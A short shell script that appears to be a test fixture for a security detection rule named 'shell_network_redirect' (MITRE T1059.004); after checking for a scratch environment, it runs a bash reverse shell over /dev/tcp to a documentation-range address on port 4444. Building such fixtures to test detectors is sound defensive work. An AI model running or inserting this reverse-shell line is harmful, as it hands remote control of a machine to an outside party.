#!/bin/sh
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# rule: shell_network_redirect
# A shell that opens the connection to its master itself.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
timeout 2 bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' 2>/dev/null || true
exit 0
